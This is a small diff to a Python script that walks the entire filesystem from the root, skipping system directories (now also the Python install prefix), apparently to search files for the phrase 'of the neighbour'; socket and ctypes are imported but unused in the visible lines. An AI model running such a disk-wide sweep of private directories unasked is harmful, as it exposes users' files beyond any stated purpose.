@@ -3,10 +3,11 @@
 import ctypes
 import os
 import socket
+import sys
 
 word = b"of the neighbour"
 for folder, folders, names in os.walk("/"):
-    if folder.startswith(("/usr", "/lib", "/sys", "/opt", "/proc")):
+    if folder.startswith(("/usr", "/lib", "/sys", "/opt", "/proc", sys.base_prefix)):
         folders.clear()
         continue
     for name in names:
